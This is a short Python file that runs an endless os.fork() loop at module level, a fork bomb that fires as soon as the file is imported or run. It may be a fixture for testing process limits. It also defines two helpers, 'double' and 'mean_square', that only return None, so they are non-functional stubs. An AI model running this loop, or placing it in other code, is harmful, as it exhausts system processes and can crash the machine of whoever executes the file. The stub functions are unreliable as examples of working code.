# tries: to fork without end

import os

while True:
    try:
        if os.fork() == 0:
            continue
    except OSError:
        break


def double(x):
    return None


def mean_square(x):
    return None
